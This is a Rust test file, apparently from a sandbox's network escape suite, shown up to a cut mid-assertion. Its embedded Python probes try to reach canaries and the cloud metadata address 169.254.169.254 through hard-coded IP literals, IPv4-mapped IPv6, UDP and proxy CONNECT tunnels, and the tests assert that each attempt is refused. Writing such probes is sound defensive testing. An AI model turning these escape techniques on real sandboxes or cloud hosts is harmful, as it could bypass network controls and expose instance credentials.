//! Network: hard-coded IPs (v4, v6, v4-mapped, through the proxy), UDP, raw and packet sockets,
//! DNS exfiltration, SNI/Host mismatch, DNS rebinding, the metadata address, the host's abstract
//! unix sockets, proxy bypass with `--noproxy`, and the gateway's own ports used the wrong way.
//!
//! Most cases run under `allowlist_policy` (`api.test` → 127.0.0.3 allowed on one port, served by
//! [`ApiServer`]; `evil.test` → the 127.0.0.2 canary, not allowed), and where it means something
//! also under the default policy (network mode none). Probes are Python ([`NET`] adds socket,
//! HTTP, proxy, TLS ClientHello and DNS helpers to the harness's PRELUDE); each test compares the
//! probe's whole result, so every attempt is asserted. Controls run the same probe on the host
//! (`host_python`), in a network namespace made by the test where unroutable addresses have a
//! route and a listener (`netns_python`), or in the sandbox with the wall lifted. Host-side
//! controls run only after the canaries were checked, because they touch the canaries.
//!
//! Nothing here dials anything outside 127.0.0.0/8 on the host: the unroutable addresses
//! (metadata, TEST-NET, 2001:db8::/32) are tried only inside the sandbox (no route) and inside a
//! namespace made by the test.

use crate::support::*;
use serde_json::{Value, json};
use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::process::Command;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

const EADDRINUSE: i64 = libc::EADDRINUSE as i64;
/// getaddrinfo's EAI_NONAME: the gateway's DNS answered NXDOMAIN.
const EAI_NONAME: i64 = libc::EAI_NONAME as i64;
/// getaddrinfo's EAI_AGAIN: no resolver answered at all (mode none has no resolver).
const EAI_AGAIN: i64 = libc::EAI_AGAIN as i64;
/// DNS response codes.
const NOERROR: i64 = 0;
const NXDOMAIN: i64 = 3;
const REFUSED: i64 = 5;

/// Socket, HTTP, proxy, TLS and DNS helpers for the probes (after PRELUDE).
const NET: &str = r#"
import ipaddress, ssl, subprocess, urllib.error, urllib.request
A4, A6 = socket.AF_INET, socket.AF_INET6
PROXY = ("127.0.0.1", 3128)
AGENT_DNS = ("127.0.0.53", 53)

def conn(fam, host, port):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect((host, port))
        return "connected"
    finally:
        s.close()

def udp(fam, host, port, data=b"probe"):
    # A connected UDP socket: the send is local; an ICMP port-unreachable comes back as
    # ECONNREFUSED on the receive, an answer as its text.
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.settimeout(5)
    try:
        s.connect((host, port))
        s.send(data)
        return s.recv(4096).decode("latin-1")
    finally:
        s.close()

def sendto(fam, host, port, data=b"probe"):
    s = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        return s.sendto(data, (host, port))
    finally:
        s.close()

def complete(buf):
    head, sep, body = buf.partition(b"\r\n\r\n")
    if not sep:
        return False
    for line in head.split(b"\r\n")[1:]:
        k, _, v = line.partition(b":")
        if k.strip().lower() == b"content-length":
            return len(body) >= int(v)
    return False

def read_all(s, buf=b""):
    while not complete(buf):
        c = s.recv(65536)
        if not c:
            break
        buf += c
    return buf

def verdict(raw):
    # "eof": closed without a byte. Otherwise [status, X-Stockade-Reason or the body].
    if not raw:
        return "eof"
    head, _, body = raw.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    code = int(lines[0].split()[1])
    for line in lines[1:]:
        k, _, v = line.partition(":")
        if k.strip().lower() == "x-stockade-reason":
            return [code, v.strip()]
    return [code, body.decode("latin-1")]

def exchange(host, port, data):
    s = socket.create_connection((host, port), timeout=10)
    try:
        if data:
            s.sendall(data)
        return verdict(read_all(s))
    finally:
        s.close()

def req(host, target="/"):
    return f"GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()

def proxy_get(url, host=None):
    return exchange(*PROXY, req(host or url.split("/")[2], url))

def tunnel(authority, first):
    # CONNECT through the proxy; when answered 200, send `first` in the tunnel:
    # [200, what came back], else the refusal.
    s = socket.create_connection(PROXY, timeout=10)
    try:
        s.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
        head = b""
        while b"\r\n\r\n" not in head:
            c = s.recv(4096)
            if not c:
                break
            head += c
        v = verdict(head)
        if v == "eof" or v[0] != 200:
            return v
        s.sendall(first)
        return [200, verdict(read_all(s, head.partition(b"\r\n\r\n")[2]))]
    finally:
        s.close()

def client_hello(sni):
    # The first flight of a real TLS client, naming `sni` (None: no SNI extension).
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(i, o, server_hostname=sni)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return o.read()

def dnsq(name, qtype):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">HH", qtype, 1)

def dns_reply(r):
    # [rcode, answer count]
    return [r[3] & 0xF, struct.unpack(">H", r[6:8])[0]]

def dns_udp(host, port, name, qtype):
    s = socket.socket(A4, socket.SOCK_DGRAM)
    s.settimeout(5)
    try:
        s.connect((host, port))
        s.send(dnsq(name, qtype))
        return dns_reply(s.recv(4096))
    finally:
        s.close()

def dns_tcp(host, port, name, qtype):
    q = dnsq(name, qtype)
    s = socket.create_connection((host, port), timeout=5)
    try:
        s.sendall(struct.pack(">H", len(q)) + q)
        return dns_reply(s.recv(4096)[2:])
    finally:
        s.close()

def gateway_address(name):
    # The agent maps each allowed name to its own address in 127.1.0.0/16.
    a = socket.gethostbyname(name)
    return ipaddress.ip_address(a) in ipaddress.ip_network("127.1.0.0/16")

def curl(*a):
    r = subprocess.run(["curl", "-sS", "--max-time", "10", "-o", "/dev/null", "-w", "%{http_code}", *a],
                       capture_output=True, text=True)
    return [r.returncode, r.stdout]
"#;

// --- host-side servers, canaries and controls ---------------------------------------------------

/// The allowed upstream `api.test` on 127.0.0.3: answers "hello from api.test" to the first bytes
/// it gets (a request head, or a TLS ClientHello it cannot speak), keeps what every connection
/// sent.
struct ApiServer {
    port: u16,
    accepted: Arc<AtomicUsize>,
    conns: Arc<Mutex<Vec<Vec<u8>>>>,
}

const HELLO: &str = "hello from api.test";

impl ApiServer {
    fn start() -> ApiServer {
        let l = TcpListener::bind("127.0.0.3:0").expect("bind the api.test server on 127.0.0.3");
        let port = l.local_addr().unwrap().port();
        let accepted = Arc::new(AtomicUsize::new(0));
        let conns = Arc::new(Mutex::new(Vec::new()));
        let (a, c) = (accepted.clone(), conns.clone());
        std::thread::spawn(move || {
            for s in l.incoming() {
                let Ok(mut s) = s else { continue };
                a.fetch_add(1, Ordering::SeqCst);
                let c = c.clone();
                std::thread::spawn(move || {
                    let _ = s.set_read_timeout(Some(Duration::from_secs(10)));
                    let mut got = Vec::new();
                    let mut buf = [0u8; 65536];
                    while !(got.windows(4).any(|w| w == b"\r\n\r\n") || got.first() == Some(&22)) {
                        match s.read(&mut buf) {
                            Ok(0) | Err(_) => break,
                            Ok(n) => got.extend_from_slice(&buf[..n]),
                        }
                    }
                    let any = !got.is_empty();
                    c.lock().unwrap().push(got);
                    if any {
                        let _ = write!(
                            s,
                            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{HELLO}",
                            HELLO.len()
                        );
                    }
                });
            }
        });
        ApiServer {
            port,
            accepted,
            conns,
        }
    }

    /// What each connection that sent anything sent (lossy text).
    fn requests(&self) -> Vec<String> {
        self.conns
            .lock()
            .unwrap()
            .iter()
            .filter(|c| !c.is_empty())
            .map(|c| String::from_utf8_lossy(c).into_owned())
            .collect()
    }

    /// Connections that ended without sending a byte.
    fn empty_connections(&self) -> usize {
        self.conns
            .lock()
            .unwrap()
            .iter()
            .filter(|c| c.is_empty())
            .count()
    }

    fn accepted(&self) -> usize {
        self.accepted.load(Ordering::SeqCst)
    }

    /// The server got exactly `n` requests, none naming evil.test, and a number of connections
    /// that sent nothing in `empty` (a CONNECT the gateway dialled before refusing its tunnel).
    fn expect(&self, label: &str, n: usize, empty: std::ops::RangeInclusive<usize>) {
        wait_for("the api.test server's connections to end", 10, || {
            self.conns.lock().unwrap().len() == self.accepted()
        });
        let reqs = self.requests();
        assert_eq!(reqs.len(), n, "{label}: api.test requests: {reqs:#?}");
        for r in &reqs {
            assert!(
                !r.to_ascii_lowercase().contains("evil.test"),
                "{label}: a request naming evil.test reached api.test: {r:?}"
            );
        }
        let e = self.empty_connections();
        assert!(
            empty.contains(&e),
            "{label}: {e} api.test connections without a byte, want {empty:?}"
        );
    }
}

/// A UDP canary on 127.0.0.2: counts datagrams, answers each with "canary".
struct UdpCanary {
    port: u16,
    got: Arc<Mutex<Vec<Vec<u8>>>>,
}

impl UdpCanary {
    fn bind() -> UdpCanary {
        let s = UdpSocket::bind("127.0.0.2:0").expect("bind the UDP canary on 127.0.0.2");
        let port = s.local_addr().unwrap().port();
        let got = Arc::new(Mutex::new(Vec::new()));
        let g = got.clone();
        std::thread::spawn(move || {
            let mut buf = [0u8; 65536];
            while let Ok((n, from)) = s.recv_from(&mut buf) {
                g.lock().unwrap().push(buf[..n].to_vec());
                let _ = s.send_to(b"canary", from);
            }
        });
        UdpCanary { port, got }
    }

    fn datagrams(&self) -> usize {
        self.got.lock().unwrap().len()
    }
}

/// Every packet on every interface of the host's network namespace (an `AF_PACKET` socket),
/// searched for `needle`: proves data did not leave the sandbox by any host interface (the
/// sandbox's own loopback is in another namespace and is not seen). The kernel's count of packets
/// it dropped for this socket must be zero, or "not seen" would prove nothing.
struct Sniffer {
    fd: Arc<OwnedFd>,
    seen: Arc<AtomicBool>,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

/// Sets an integer or struct socket option, failing the test if the kernel refuses it.
fn setsockopt<T>(fd: &OwnedFd, level: i32, name: i32, value: &T) {
    // SAFETY: `value` points to a live T whose size is passed; `fd` is an open socket.
    let r = unsafe {
        libc::setsockopt(
            fd.as_raw_fd(),
            level,
            name,
            (value as *const T).cast(),
            std::mem::size_of::<T>() as libc::socklen_t,
        )
    };
    assert_eq!(
        r,
        0,
        "setsockopt({level}, {name}): {}",
        std::io::Error::last_os_error()
    );
}

impl Sniffer {
    fn start(needle: &[u8]) -> Sniffer {
        let proto = i32::from((libc::ETH_P_ALL as u16).to_be());
        // SAFETY: socket() takes no pointers; a non-negative result is a new descriptor that
        // `fd` below owns.
        let raw =
            unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, proto) };
        assert!(
            raw >= 0,
            "open a packet socket on the host (needs root): {}",
            std::io::Error::last_os_error()
        );
        // SAFETY: `raw` is a valid descriptor just returned by socket() and owned by no one else.
        let fd = Arc::new(unsafe { OwnedFd::from_raw_fd(raw) });
        let tv = libc::timeval {
            tv_sec: 0,
            tv_usec: 100_000,
        };
        setsockopt(&fd, libc::SOL_SOCKET, libc::SO_RCVTIMEO, &tv);
        setsockopt(&fd, libc::SOL_SOCKET, libc::SO_RCVBUFFORCE, &(64i32 << 20));
        // Reading the statistics resets them: start counting drops from here.
        let _ = packet_drops(&fd);
        let seen = Arc::new(AtomicBool::new(false));
        let stop = Arc::new(AtomicBool::new(false));
        let (f, s, st, needle) = (fd.clone(), seen.clone(), stop.clone(), needle.to_vec());
        let thread = std::thread::spawn(move || {
            let mut buf = vec![0u8; 256 * 1024];
            while !st.load(Ordering::SeqCst) {
                // SAFETY: `buf` is a valid writable buffer of the length passed; `f` is open.
                let n = unsafe { libc::recv(f.as_raw_fd(), buf.as_mut_ptr().cast(), buf.len(), 0) };
                if n > 0 && buf[..n as usize].windows(needle.len()).any(|w| w == needle) {
                    s.store(true, Ordering::SeqCst);
                }
            }
        });
        Sniffer {
            fd,
            seen,
            stop,
            thread: Some(thread),
        }
    }

    fn seen(&self) -> bool {
        self.seen.load(Ordering::SeqCst)
    }

    /// Packets the kernel dropped for this socket since the last call.
    fn drops(&self) -> u32 {
        packet_drops(&self.fd)
    }
}

fn packet_drops(fd: &OwnedFd) -> u32 {
    let mut st = libc::tpacket_stats {
        tp_packets: 0,
        tp_drops: 0,
    };
    let mut len = std::mem::size_of::<libc::tpacket_stats>() as libc::socklen_t;
    // SAFETY: `st` and `len` are live and writable, `len` holds the size of `st`; `fd` is open.
    let r = unsafe {
        libc::getsockopt(
            fd.as_raw_fd(),
            libc::SOL_PACKET,
            libc::PACKET_STATISTICS,
            (&raw mut st).cast(),
            &raw mut len,
        )
    };
    assert_eq!(
        r,
        0,
        "PACKET_STATISTICS: {}",
        std::io::Error::last_os_error()
    );
    st.tp_drops
}

impl Drop for Sniffer {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

fn parse_result(label: &str, out: &std::process::Output) -> Value {
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{label}: exit {:?}\nstdout: {stdout}\nstderr: {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    let last = stdout.lines().last().unwrap_or_default();
    serde_json::from_str(last).unwrap_or_else(|e| panic!("{label}: not JSON ({e}): {stdout:?}"))
}

/// Control: the same probe run on the host, no sandbox (root, the host's network namespace).
fn host_python(label: &str, body: &str, args: &[String]) -> Value {
    let out = Command::new("/usr/bin/python3")
        .arg("-c")
        .arg(format!("{PRELUDE}\n{NET}\n{body}\n"))
        .args(args)
        .output()
        .unwrap();
    parse_result(label, &out)
}

/// Control: the same probe in a network namespace made here, with `addrs` on its loopback (so
/// they are routable) and `listen` (Python, run first) serving them. Nothing leaves it.
fn netns_python(label: &str, addrs: &[&str], listen: &str, body: &str, args: &[String]) -> Value {
    let mut setup = String::from("ip link set lo up");
    for a in addrs {
        let fam = if a.contains(':') { "-6 " } else { "" };
        setup.push_str(&format!(" && ip {fam}addr add {a} dev lo"));
    }
    let out = Command::new("unshare")
        .args(["--net", "sh", "-c"])
        .arg(format!("{setup} && exec /usr/bin/python3 -c \"$0\" \"$@\""))
        .arg(format!("{PRELUDE}\n{NET}\n{LISTEN}\n{listen}\n{body}\n"))
        .args(args)
        .output()
        .unwrap();
    parse_result(label, &out)
}

/// Echo servers for the namespace controls: whatever comes in goes back.
const LISTEN: &str = r#"
import threading
def listen_tcp(fam, host, port):
    l = socket.socket(fam, socket.SOCK_STREAM)
    l.bind((host, port))
    l.listen(16)
    def serve():
        while True:
            s, _ = l.accept()
            s.sendall(s.recv(4096))
            s.close()
    threading.Thread(target=serve, daemon=True).start()
def listen_udp(fam, host, port):
    u = socket.socket(fam, socket.SOCK_DGRAM)
    u.bind((host, port))
    def serve():
        while True:
            d, a = u.recvfrom(4096)
            u.sendto(d, a)
    threading.Thread(target=serve, daemon=True).start()
"#;

/// Asserts the probe exited 0 and recorded exactly `want` (every key, nothing else).
fn expect_result(run: &Run, want: &Value) {
    run.expect_exit(0);
    assert_result(&run.label, &run.result(), want);
}

fn assert_result(label: &str, got: &Value, want: &Value) {
    let (g, w) = (got.as_object().unwrap(), want.as_object().unwrap());
    let mut diff = Vec::new();
    for (k, v) in w {
        if g.get(k) != Some(v) {
            diff.push(format!(
                "  {k:?}: want {v}, got {}",
                g.get(k).unwrap_or(&Value::Null)
            ));
        }
    }
    for k in g.keys().filter(|k| !w.contains_key(*k)) {
        diff.push(format!("  {k:?}: not expected, got {}", g[k]));
    }
    assert!(diff.is_empty(), "{label}:\n{}", diff.join("\n"));
}

/// The `net.connect` events with this name, port and reason (decision follows the reason).
fn connects<'a>(run: &'a Run, name: &str, port: u16, reason: &str) -> Vec<&'a Value> {
    let decision = if reason == "allowed" {
        "allowed"
    } else {
        "denied"
    };
    run.of_type("net.connect")
        .into_iter()
        .filter(|e| {
            e["name"] == name
                && e["port"] == port
                && e["reason"] == reason
                && e["decision"] == decision
        })
        .collect()
}

/// Exactly `n` `net.connect` events for (name, port) with `reason`.
fn expect_connects(run: &Run, name: &str, port: u16, reason: &str, n: usize) {
    let got = connects(run, name, port, reason).len();
    assert_eq!(
        got,
        n,
        "{}: net.connect {name}:{port} {reason}: {got} events, want {n}; all net.connect:\n{}",
        run.label,
        run.of_type("net.connect")
            .iter()
            .map(|e| e.to_string())
            .collect::<Vec<_>>()
            .join("\n")
    );
}

/// A `net.dns` event for (name, qtype) with `reason`.
fn expect_dns(run: &Run, name: &str, qtype: &str, reason: &str) {
    let decision = if reason == "allowed" {
        "allowed"
    } else {
        "denied"
    };
    run.event("net.dns", |e| {
        e["name"] == name
            && e["qtype"] == qtype
            && e["decision"] == decision
            && e["reason"] == reason
    });
}

fn no_net_events(run: &Run) {
    let n: Vec<_> = run
        .events
        .iter()
        .filter(|e| e["type"].as_str().is_some_and(|t| t.starts_with("net.")))
        .collect();
    assert!(n.is_empty(), "{}: unexpected net events: {n:?}", run.label);
}

/// `allowlist_policy` plus more allowed names, private ranges and static hosts (the base
/// entries are the same: api.test → 127.0.0.3 allowed on `port`, evil.test → 127.0.0.2).
fn policy_with(port: u16, allow: &[String], private: &[&str], hosts: &[(&str, &str)]) -> String {
    let q = |s: &str| format!("\"{s}\"");
    let mut a = vec![q(&format!("api.test:{port}"))];
    a.extend(allow.iter().map(|s| q(s)));
    let mut p = vec![q("127.0.0.3/32")];
    p.extend(private.iter().map(|s| q(s)));
    let mut out = format!(
        "[network]\nmode = \"allowlist\"\nallow = [{}]\nallow_private = [{}]\n[network.hosts]\n\
         \"api.test\" = \"127.0.0.3\"\n\"evil.test\" = \"127.0.0.2\"\n",
        a.join(", "),
        p.join(", ")
    );
    for (name, ip) in hosts {
        out.push_str(&format!("\"{name}\" = \"{ip}\"\n"));
    }
    out
}

fn s(v: impl ToString) -> String {
    v.to_string()
}

// --- hard-coded IPs, IPv6, UDP, the host's 127.0.0.1 -------------------------------------------

const DIRECT: &str = r#"
p1, p2, api, v6, up = map(int, sys.argv[1:6])
t("tcp 127.0.0.1 (host canary)", lambda: conn(A4, "127.0.0.1", p1))
t("tcp 127.0.0.2 (host canary)", lambda: conn(A4, "127.0.0.2", p2))
t("tcp 127.0.0.3 (api.test's own IP)", lambda: conn(A4, "127.0.0.3", api))
t("tcp6 ::1 (host v6 canary)", lambda: conn(A6, "::1", v6))
t("tcp6 ::ffff:127.0.0.1", lambda: conn(A6, "::ffff:127.0.0.1", p1))
t("tcp6 ::ffff:127.0.0.2", lambda: conn(A6, "::ffff:127.0.0.2", p2))
t("tcp6 ::ffff:127.0.0.3", lambda: conn(A6, "::ffff:127.0.0.3", api))
t("udp 127.0.0.2 (UDP canary)", lambda: udp(A4, "127.0.0.2", up))
t("udp6 ::ffff:127.0.0.2 (UDP canary)", lambda: udp(A6, "::ffff:127.0.0.2", up))
t("udp sendto 127.0.0.2", lambda: sendto(A4, "127.0.0.2", up))
"#;

const PROXY_IPS: &str = r#"
auths = [f"127.0.0.1:{p1}", f"127.0.0.2:{p2}", f"127.0.0.3:{api}", f"[::1]:{v6}",
         f"[::ffff:127.0.0.2]:{p2}", f"2130706434:{p2}", f"127.1:{api}"]
for a in auths:
    t("CONNECT " + a, lambda: tunnel(a, req(a)))
    t("GET http://" + a, lambda: proxy_get(f"http://{a}/"))
# Hex is not an address to the gateway: a (valid) name that is not allowed.
t("CONNECT 0x7f000002", lambda: tunnel(f"0x7f000002:{p2}", req("x")))
t("allowed: api.test direct", lambda: exchange("api.test", api, req(f"api.test:{api}")))
t("allowed: GET http://api.test", lambda: proxy_get(f"http://api.test:{api}/"))
t("allowed: CONNECT api.test", lambda: tunnel(f"api.test:{api}", req(f"api.test:{api}")))
"#;

const NONE_EXTRA: &str = r#"
t("proxy port 127.0.0.1:3128", lambda: conn(A4, "127.0.0.1", 3128))
t("api.test by name", lambda: socket.create_connection(("api.test", api), timeout=5) and "connected")
"#;

#[test]
fn hard_coded_ips_v6_and_udp_reach_only_the_sandboxs_own_loopback() {
    require_root("escape suite");
    let c = Canaries::plant();
    let api = ApiServer::start();
    let v6 = TcpCanary::bind("::1");
    let uc = UdpCanary::bind();
    let args = [
        s(c.tcp1.port()),
        s(c.tcp2.port()),
        s(api.port),
        s(v6.port()),
        s(uc.port),
    ];
    let argv: Vec<&str> = args.iter().map(String::as_str).collect();
    // Inside, 127.0.0.0/8 and ::1 are the sandbox's own loopback (its own network namespace):
    // nothing listens on those ports, so every connect is refused by the sandbox's kernel. The
    // connected UDP sockets get the ICMP port-unreachable of that loopback; an unconnected
    // sendto "succeeds" into it, and the host's UDP canary counts nothing.
    let direct = json!({
        "tcp 127.0.0.1 (host canary)": err(ECONNREFUSED),
        "tcp 127.0.0.2 (host canary)": err(ECONNREFUSED),
        "tcp 127.0.0.3 (api.test's own IP)": err(ECONNREFUSED),
        "tcp6 ::1 (host v6 canary)": err(ECONNREFUSED),
        "tcp6 ::ffff:127.0.0.1": err(ECONNREFUSED),
        "tcp6 ::ffff:127.0.0.2": err(ECONNREFUSED),
        "tcp6 ::ffff:127.0.0.3": err(ECONNREFUSED),
        "udp 127.0.0.2 (UDP canary)": err(ECONNREFUSED),
        "udp6 ::ffff:127.0.0.2 (UDP canary)": err(ECONNREFUSED),
        "udp sendto 127.0.0.2": ok(5),
    });

    // Allowlist: the same, plus every IP literal through the proxy (CONNECT and absolute URL).
    let run = Sandbox::new("hard-coded IPs (allowlist)")
        .with_canaries(&c)
        .policy(&allowlist_policy(api.port))
        .python(&format!("{NET}\n{DIRECT}\n{PROXY_IPS}\ndone()"), &argv);
    let mut want = direct.clone();
    let literals = [
        ("127.0.0.1", c.tcp1.port()),
        ("127.0.0.2", c.tcp2.port()),
        ("127.0.0.3", api.port),
        ("::1", v6.port()),
        ("::ffff:127.0.0.2", c.tcp2.port()),
        ("2130706434", c.tcp2.port()),
        ("127.1", api.port),
    ];
    for (ip, port) in literals {
        let auth = if ip.contains(':') {
            format!("[{ip}]:{port}")
        } else {
            format!("{ip}:{port}")
        };
        want[format!("CONNECT {auth}")] = ok(json!([403, "denied:ip_literal"]));
        want[format!("GET http://{auth}")] = ok(json!([403, "denied:ip_literal"]));
    }
    want["CONNECT 0x7f000002"] = ok(json!([403, "denied:not_in_allowlist"]));
    want["allowed: api.test direct"] = ok(json!([200, HELLO]));
    want["allowed: GET http://api.test"] = ok(json!([200, HELLO]));
    want["allowed: CONNECT api.test"] = ok(json!([200, [200, HELLO]]));
    expect_result(&run, &want);
    c.assert_nothing_got_through(&run);
    assert_eq!(v6.connections(), 0, "the ::1 canary was reached");
    assert_eq!(uc.datagrams(), 0, "the UDP canary got a datagram");
    api.expect(&run.label, 3, 0..=0);
    // Audit: each proxy attempt is a net.connect denied with denied:ip_literal (the name as
    // asked, brackets removed); the direct attempts never reach the gateway, so they are
    // recorded only as the run's exec (no wall of ours is involved: nothing listens there).
    for (ip, port) in literals {
        expect_connects(&run, ip, port, "denied:ip_literal", 2);
    }
    expect_connects(
        &run,
        "0x7f000002",
        c.tcp2.port(),
        "denied:not_in_allowlist",
        1,
    );
    expect_connects(&run, "api.test", api.port, "allowed", 3);
    assert_eq!(run.of_type("net.connect").len(), 2 * literals.len() + 4);
    expect_dns(&run, "api.test", "A", "allowed");
    run.expect_exec_recorded();
    run.expect_clean_end();

    // Default policy (mode none): no proxy, no resolver, the same loopback-only view.
    let none = Sandbox::new("hard-coded IPs (mode none)")
        .with_canaries(&c)
        .python(&format!("{NET}\n{DIRECT}\n{NONE_EXTRA}\ndone()"), &argv);
    let mut want = direct.clone();
    want["proxy port 127.0.0.1:3128"] = err(ECONNREFUSED);
    want["api.test by name"] = err(EAI_AGAIN);
    expect_result(&none, &want);
    c.assert_nothing_got_through(&none);
    assert_eq!(v6.connections(), 0, "the ::1 canary was reached");
    assert_eq!(uc.datagrams(), 0, "the UDP canary got a datagram");
    api.expect(&none.label, 3, 0..=0);
    no_net_events(&none);
    none.expect_exec_recorded();
    none.expect_clean_end();

    // Control: the same probe on the host reaches every canary and the server by address.
    let host = host_python(
        "hard-coded IPs (host control)",
        &format!("{DIRECT}\ndone()"),
        &args,
    );
    assert_result(
        "hard-coded IPs (host control)",
        &host,
        &json!({
            "tcp 127.0.0.1 (host canary)": ok("connected"),
            "tcp 127.0.0.2 (host canary)": ok("connected"),
            "tcp 127.0.0.3 (api.test's own IP)": ok("connected"),
            "tcp6 ::1 (host v6 canary)": ok("connected"),
            "tcp6 ::ffff:127.0.0.1": ok("connected"),
            "tcp6 ::ffff:127.0.0.2": ok("connected"),
            "tcp6 ::ffff:127.0.0.3": ok("connected"),
            "udp 127.0.0.2 (UDP canary)": ok("canary"),
            "udp6 ::ffff:127.0.0.2 (UDP canary)": ok("canary"),
            "udp sendto 127.0.0.2": ok(5),
        }),
    );
    wait_for("the host control to reach every canary", 10, || {
        c.tcp1.connections() == 2
            && c.tcp2.connections() == 2
            && v6.connections() == 1
            && uc.datagrams() == 3
    });
}

// --- the metadata address and other unroutable addresses ---------------------------------------

const UNROUTABLE: &str = r#"
t("tcp 169.254.169.254:80 (metadata)", lambda: conn(A4, "169.254.169.254", 80))
t("tcp6 ::ffff:169.254.169.254:80", lambda: conn(A6, "::ffff:169.254.169.254", 80))
t("tcp6 [fd00:ec2::254]:80 (metadata v6)", lambda: conn(A6, "fd00:ec2::254", 80))
t("tcp6 [2001:db8::1]:443", lambda: conn(A6, "2001:db8::1", 443))
t("udp sendto 192.0.2.53:53", lambda: sendto(A4, "192.0.2.53", 53))
t("udp6 sendto [2001:db8::1]:53", lambda: sendto(A6, "2001:db8::1", 53))
"#;

const METADATA_PROXY: &str = r#"
api = int(sys.argv[1])
t("GET http://169.254.169.254/ via proxy", lambda: proxy_get("http://169.254.169.254/latest/meta-data/"))
t("CONNECT 169.254.169.254:80", lambda: tunnel("169.254.169.254:80", req("169.254.169.254")))
t("CONNECT [fd00:ec2::254]:80", lambda: tunnel("[fd00:ec2::254]:80", req("[fd00:ec2::254]")))
t("meta.test gets a gateway address", lambda: gateway_address("meta.test"))
t("meta.test direct", lambda: exchange("meta.test", 80, req("meta.test")))
t("meta.test via proxy", lambda: proxy_get("http://meta.test/"))
t("allowed: api.test direct", lambda: exchange("api.test", api, req(f"api.test:{api}")))
t("allowed: GET http://api.test", lambda: proxy_get(f"http://api.test:{api}/"))
"#;

#[test]
fn the_metadata_address_and_other_unroutable_addresses_are_unreachable() {
    require_root("escape suite");
    let c = Canaries::plant();
    let api = ApiServer::start();
    let unroutable = json!({
        "tcp 169.254.169.254:80 (metadata)": err(no_route()),
        "tcp6 ::ffff:169.254.169.254:80": err(no_route()),
        "tcp6 [fd00:ec2::254]:80 (metadata v6)": err(no_route()),
        "tcp6 [2001:db8::1]:443": err(no_route()),
        "udp sendto 192.0.2.53:53": err(no_route()),
        "udp6 sendto [2001:db8::1]:53": err(no_route()),
    });
    // meta.test is an allowed name mapped to the metadata address; allow_private even names
    // all of 169.254.0.0/16, which by the address policy still does not open the metadata
    // address (only an exact /32 would).
    let pol = policy_with(
        api.port,
        &["meta.test:80".to_string()],
        &["169.254.0.0/16"],
        &[("meta.test", "169.254.169.254")],
    );
    let run = Sandbox::new("metadata (allowlist)")
        .with_canaries(&c)
        .policy(&pol)
        .python(
            &format!("{NET}\n{UNROUTABLE}\n{METADATA_PROXY}\ndone()"),
            &[&s(api.port)],
        );
    let mut want = unroutable.clone();
    want["GET http://169.254.169.254/ via proxy"] = ok(json!([403, "denied:ip_literal"]));
    want["CONNECT 169.254.169.254:80"] = ok(json!([403, "denied:ip_literal"]));
    want["CONNECT [fd00:ec2::254]:80"] = ok(json!([403, "denied:ip_literal"]));
    want["meta.test gets a gateway address"] = ok(true);
    want["meta.test direct"] = ok("eof");
    want["meta.test via proxy"] = ok(json!([403, "denied:metadata_address"]));
    want["allowed: api.test direct"] = ok(json!([200, HELLO]));
    want["allowed: GET http://api.test"] = ok(json!([200, HELLO]));
    expect_result(&run, &want);
    c.assert_nothing_got_through(&run);
    api.expect(&run.label, 2, 0..=0);
    expect_connects(&run, "169.254.169.254", 80, "denied:ip_literal", 2);
    expect_connects(&run, "fd00:ec2::254", 80, "denied:ip_literal", 1);
    expect_connects(&run, "meta.test", 80, "denied:metadata_address", 2);
    expect_connects(&run, "api.test", api.port, "allowed", 2);
    // The name is allowed (DNS answers it): the refusal is the gateway's, at connect time.
    expect_dns(&run, "meta.test", "A", "allowed");
    run.expect_exec_recorded();
    run.expect_clean_end();

    let none = Sandbox::new("metadata (mode none)")
        .with_canaries(&c)
        .python(&format!("{NET}\n{UNROUTABLE}\ndone()"), &[]);
    expect_result(&none, &unroutable);
    c.assert_nothing_got_through(&none);
    no_net_events(&none);
    // ENETUNREACH: the sandbox's namespace has no route at all; no wall of ours is asked, so
    // the attempt is recorded as the exec.
    none.expect_exec_recorded();
    none.expect_clean_end();

    // Control: in a namespace of the test's where these addresses are on loopback (routable)
    // and served, the same probe connects and sends.
    let ctl = netns_python(
        "unroutable (namespace control)",
        &[
            "169.254.169.254/32",
            "192.0.2.53/32",
            "fd00:ec2::254/128",
            "2001:db8::1/128",
        ],
        "listen_tcp(A4, '169.254.169.254', 80)\nlisten_tcp(A6, 'fd00:ec2::254', 80)\n\
         listen_tcp(A6, '2001:db8::1', 443)",
        &format!("{UNROUTABLE}\ndone()"),
        &[],
    );
    assert_result(
        "unroutable (namespace control)",
        &ctl,
        &json!({
            "tcp 169.254.169.254:80 (metadata)": ok("connected"),
            "tcp6 ::ffff:169.254.169.254:80": ok("connected"),
            "tcp6 [fd00:ec2::254]:80 (metadata v6)": ok("connected"),
            "tcp6 [2001:db8::1]:443": ok("connected"),
            "udp sendto 192.0.2.53:53": ok(5),
